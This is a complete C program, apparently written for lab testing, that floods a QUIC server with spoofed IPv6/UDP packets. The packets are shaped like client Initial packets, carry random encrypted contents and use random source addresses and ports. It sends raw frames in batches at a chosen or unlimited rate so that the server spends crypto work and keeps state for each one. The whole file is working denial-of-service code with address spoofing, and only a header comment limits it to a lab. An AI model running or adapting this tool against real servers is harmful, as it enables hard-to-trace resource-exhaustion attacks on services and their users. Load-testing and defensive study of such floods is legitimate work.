// SPDX-License-Identifier: Apache-2.0
// Spoofed QUIC Initial flood for the lab: raw Ethernet/IPv6/UDP frames on an
// AF_PACKET socket, each from a random source address inside one of NPREFIXES /64s
// under PREFIX48 (prefix i = PREFIX48:i::/64) and a random source port. The payload
// is shaped like a QUIC v1 client Initial (long header, fresh random DCID/SCID,
// 1200 bytes) but its protected part is random: a server derives keys and keeps
// state for each one before decryption fails. Run it only inside a lab namespace.
//   initial_flood IFNAME SRC_MAC DST_MAC DST_ADDR DST_PORT PREFIX48 NPREFIXES COUNT PPS
// Prints {"sent":N,"errors":E,"ms":T}. PPS 0 = as fast as the socket takes them.
#define _GNU_SOURCE // sendmmsg
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PAYLOAD 1200
#define FRAME (14 + 40 + 8 + PAYLOAD)
#define BATCH 32

static int parse_mac(const char *s, uint8_t *mac) {
  return sscanf(s, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) == 6 ? 0 : -1;
}

static double now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

// UDP over IPv6 checksum (mandatory): pseudo-header + UDP header + payload.
static uint16_t udp6_checksum(const uint8_t *ip6, const uint8_t *udp, size_t len) {
  uint32_t sum = 0;
  for (int i = 8; i < 40; i += 2) sum += (ip6[i] << 8) | ip6[i + 1];
  sum += (uint32_t)len + 17;
  for (size_t i = 0; i + 1 < len; i += 2) sum += (udp[i] << 8) | udp[i + 1];
  if (len & 1) sum += udp[len - 1] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  uint16_t c = (uint16_t)~sum;
  return c == 0 ? 0xffff : c;
}

static void fill(uint8_t *f, const uint8_t *prefix48, unsigned prefix, const uint8_t *rnd) {
  uint8_t *ip6 = f + 14, *udp = ip6 + 40, *q = udp + 8;
  memcpy(ip6 + 8, prefix48, 6);
  ip6[14] = (uint8_t)(prefix >> 8);
  ip6[15] = (uint8_t)prefix;
  memcpy(ip6 + 16, rnd, 8);           // interface id
  udp[0] = 0x04 | (rnd[8] & 0xfb);    // source port ≥ 1024
  udp[1] = rnd[9];
  q[0] = 0xc3;                        // long header, Initial, 4-byte packet number
  q[1] = 0; q[2] = 0; q[3] = 0; q[4] = 1;
  q[5] = 8; memcpy(q + 6, rnd + 10, 8);   // DCID
  q[14] = 8; memcpy(q + 15, rnd + 18, 8); // SCID
  q[23] = 0;                              // no token
  uint16_t rest = PAYLOAD - 26;           // packet number + protected payload
  q[24] = 0x40 | (rest >> 8); q[25] = rest & 0xff;
  memcpy(q + 26, rnd + 26, 16);           // packet number and the first ciphertext bytes vary too
  udp[6] = 0; udp[7] = 0;
  uint16_t c = udp6_checksum(ip6, udp, 8 + PAYLOAD);
  udp[6] = c >> 8; udp[7] = c & 0xff;
}

int main(int argc, char **argv) {
  if (argc != 10) {
    fprintf(stderr, "usage: initial_flood IFNAME SRC_MAC DST_MAC DST_ADDR DST_PORT PREFIX48 NPREFIXES COUNT PPS\n");
    return 2;
  }
  uint8_t src_mac[6], dst_mac[6], dst[16], prefix48[16];
  unsigned port = (unsigned)atoi(argv[5]), nprefixes = (unsigned)atoi(argv[7]);
  long count = atol(argv[8]), pps = atol(argv[9]);
  if (parse_mac(argv[2], src_mac) || parse_mac(argv[3], dst_mac) || inet_pton(AF_INET6, argv[4], dst) != 1 ||
      inet_pton(AF_INET6, argv[6], prefix48) != 1 || port == 0 || port > 65535 || nprefixes == 0 || nprefixes > 65536 ||
      count <= 0 || pps < 0) {
    fprintf(stderr, "initial_flood: bad arguments\n");
    return 2;
  }
  unsigned ifindex = if_nametoindex(argv[1]);
  if (!ifindex) { perror("if_nametoindex"); return 1; }
  int fd = socket(AF_PACKET, SOCK_RAW, 0); // protocol 0: send only, receive nothing
  if (fd < 0) { perror("socket(AF_PACKET)"); return 1; }
  struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = (int)ifindex, .sll_halen = 6, .sll_protocol = htons(ETH_P_IPV6) };
  memcpy(to.sll_addr, dst_mac, 6);

  static uint8_t frames[BATCH][FRAME];
  static uint8_t noise[PAYLOAD];
  if (getrandom(noise, sizeof noise, 0) != sizeof noise) { perror("getrandom"); return 1; }
  for (int b = 0; b < BATCH; b++) {
    uint8_t *f = frames[b];
    memcpy(f, dst_mac, 6); memcpy(f + 6, src_mac, 6); f[12] = 0x86; f[13] = 0xdd;
    uint8_t *ip6 = f + 14;
    ip6[0] = 0x60; ip6[1] = 0; ip6[2] = 0; ip6[3] = 0;
    ip6[4] = (8 + PAYLOAD) >> 8; ip6[5] = (8 + PAYLOAD) & 0xff; ip6[6] = 17; ip6[7] = 64;
    memcpy(ip6 + 24, dst, 16);
    uint8_t *udp = ip6 + 40;
    udp[2] = port >> 8; udp[3] = port & 0xff; udp[4] = (8 + PAYLOAD) >> 8; udp[5] = (8 + PAYLOAD) & 0xff;
    memcpy(udp + 8, noise, PAYLOAD);
  }
  struct mmsghdr msgs[BATCH];
  struct iovec iov[BATCH];
  memset(msgs, 0, sizeof msgs);
  for (int b = 0; b < BATCH; b++) {
    iov[b] = (struct iovec){ frames[b], FRAME };
    msgs[b].msg_hdr = (struct msghdr){ .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov[b], .msg_iovlen = 1 };
  }

  long sent = 0, errors = 0;
  unsigned next_prefix = 0;
  double start = now_ms();
  while (sent + errors < count) {
    int n = (int)(count - sent - errors < BATCH ? count - sent - errors : BATCH);
    uint8_t rnd[BATCH][42];
    if (getrandom(rnd, sizeof rnd, 0) != sizeof rnd) { perror("getrandom"); return 1; }
    for (int b = 0; b < n; b++) fill(frames[b], prefix48, next_prefix++ % nprefixes, rnd[b]);
    int done = sendmmsg(fd, msgs, (unsigned)n, 0);
    if (done < 0) {
      if (errno != ENOBUFS && errno != EAGAIN) { perror("sendmmsg"); return 1; }
      errors += n;
    } else {
      sent += done;
      errors += n - done;
    }
    if (pps > 0) { // pace: sleep until this many frames are due
      double due = start + (double)(sent + errors) * 1e3 / (double)pps, t = now_ms();
      if (due > t) {
        struct timespec ts = { (time_t)((due - t) / 1e3), (long)(((due - t) - (long)((due - t) / 1e3) * 1e3) * 1e6) };
        nanosleep(&ts, NULL);
      }
    }
  }
  printf("{\"sent\":%ld,\"errors\":%ld,\"ms\":%.1f}\n", sent, errors, now_ms() - start);
  close(fd);
  return 0;
}
